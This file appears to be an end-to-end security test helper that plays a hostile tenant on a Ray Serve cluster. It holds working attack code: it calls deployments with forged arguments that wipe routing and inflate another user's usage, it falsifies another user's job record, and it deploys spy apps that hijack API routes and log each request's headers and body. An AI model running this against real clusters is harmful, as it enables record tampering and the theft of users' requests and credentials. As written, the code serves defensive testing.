"""What a hostile job does with nothing but the cluster's token (tests/e2e/test_hostile_job.py).

Run as a Ray job's entrypoint: ``python -m tests.e2e.hostile_job OUT SPY_LOG BOB_SUBMISSION_ID APP``.
In order, each outcome appended to ``OUT`` as one JSON line:

1. ``handles``: calls every deployment of every Serve application through a deployment handle with
   forged arguments: ``reconfigure({"models": []})`` (a table routing nothing), the old meter's
   ``sync`` and ``usage``, ``llm_config``; each call's result or error is recorded.
2. ``record``: rewrites bob's ``JobInfo`` in the GCS KV (SUCCEEDED, started in 1970, ended a second
   later, "all good"), as Ray's job manager writes it.
3. ``shadows``: ``serve.run``s a spy application (it appends every request it receives, headers and
   body, to ``SPY_LOG`` and answers like a model) at ``/v1``, ``/argus`` and under every route the
   OpenAI API has, then takes over ``argus-router`` (at ``/``) and the model application ``APP``.
"""

from __future__ import annotations

import json
import sys
import time
from typing import Any

ROUTES = {
    "spy-v1": "/v1",
    "metrics-cache": "/argus",
    "spy-chat": "/v1/chat/completions",
    "spy-completions": "/v1/completions",
    "spy-models": "/v1/models",
    "spy-tokenize": "/tokenize",
}
CALL_TIMEOUT_S = 20.0
RUN_WAIT_S = 120.0


def record(out: str, doc: dict[str, Any]) -> None:
    with open(out, "a", encoding="utf-8") as fh:
        fh.write(json.dumps(doc) + "\n")


def spy_app(log: str) -> Any:
    from ray import serve
    from starlette.requests import Request

    @serve.deployment(ray_actor_options={"num_cpus": 0})
    class Spy:
        """Keeps every request it gets; answers as a chat completion would."""

        def __init__(self, path: str) -> None:
            self.path = path

        async def __call__(self, request: Request) -> dict[str, Any]:
            body = (await request.body())[:8192].decode("utf-8", "replace")
            seen = {"t": time.time(), "path": request.url.path, "headers": dict(request.headers), "body": body}
            with open(self.path, "a", encoding="utf-8") as fh:
                fh.write(json.dumps(seen) + "\n")
            return {
                "id": "spy",
                "object": "chat.completion",
                "created": int(time.time()),
                "model": "spy",
                "choices": [{"index": 0, "message": {"role": "assistant", "content": "spy"}, "finish_reason": "stop"}],
                "usage": {"prompt_tokens": 1, "completion_tokens": 1, "total_tokens": 2},
            }

    return Spy.bind(log)  # type: ignore[attr-defined]


def call_handles(out: str) -> None:
    from ray import serve

    calls: list[dict[str, Any]] = []
    for app, status in serve.status().applications.items():
        for deployment in status.deployments:
            handle = serve.get_deployment_handle(deployment, app_name=app)
            for method, args in (
                ("reconfigure", ({"models": []},)),
                ("sync", ({"s": {"u:bob": [10**9, 10**15]}, "u": [[999999, "bob", app, 10**15, 0, 0]]},)),
                ("usage", ()),
                ("llm_config", ()),
            ):
                try:
                    result = getattr(handle, method).remote(*args).result(timeout_s=CALL_TIMEOUT_S)
                    calls.append({"app": app, "deployment": deployment, "method": method, "result": repr(result)[:200]})
                except Exception as exc:
                    calls.append({"app": app, "deployment": deployment, "method": method, "error": repr(exc)[:200]})
    record(out, {"step": "handles", "calls": calls})


def rewrite_record(out: str, sid: str) -> None:
    from ray._private import ray_constants
    from ray.dashboard.modules.job.common import JobInfoStorageClient
    from ray.experimental.internal_kv import _internal_kv_get, _internal_kv_put

    key = JobInfoStorageClient.JOB_DATA_KEY.format(job_id=sid).encode()
    raw = _internal_kv_get(key, namespace=ray_constants.KV_NAMESPACE_JOB)
    if raw is None:
        record(out, {"step": "record", "error": f"no record of {sid}"})
        return
    info = json.loads(raw)
    info.update(status="SUCCEEDED", start_time=1000, end_time=2000, message="all good")
    _internal_kv_put(key, json.dumps(info).encode(), overwrite=True, namespace=ray_constants.KV_NAMESPACE_JOB)
    record(out, {"step": "record", "t": time.time(), "sid": sid})


def deploy_shadows(out: str, log: str, model_app: str) -> None:
    from ray import serve
    from ray.serve.api import _run

    for name, prefix in [*ROUTES.items(), ("argus-router", "/"), (model_app, None)]:
        doc: dict[str, Any] = {"step": "shadow", "name": name, "route": prefix}
        try:
            _run(spy_app(log), _blocking=False, name=name, route_prefix=prefix)
            doc["sent"] = time.time()
            deadline = time.monotonic() + RUN_WAIT_S
            while time.monotonic() < deadline:
                app = serve.status().applications.get(name)
                if app is not None and "Spy" in app.deployments and app.status == "RUNNING":
                    doc["running"] = time.time()
                    break
                if app is None or (app.deployments and "Spy" not in app.deployments):
                    doc["gone"] = time.time()
                    break
                time.sleep(0.1)
        except Exception as exc:  # Serve refuses some (a route another app holds): recorded
            doc["error"] = repr(exc)[:300]
        record(out, doc)


def main(argv: list[str]) -> int:
    out, log, sid, model_app = argv
    import ray

    ray.init()
    record(out, {"step": "start", "t": time.time()})
    call_handles(out)
    rewrite_record(out, sid)
    deploy_shadows(out, log, model_app)
    record(out, {"step": "end", "t": time.time()})
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
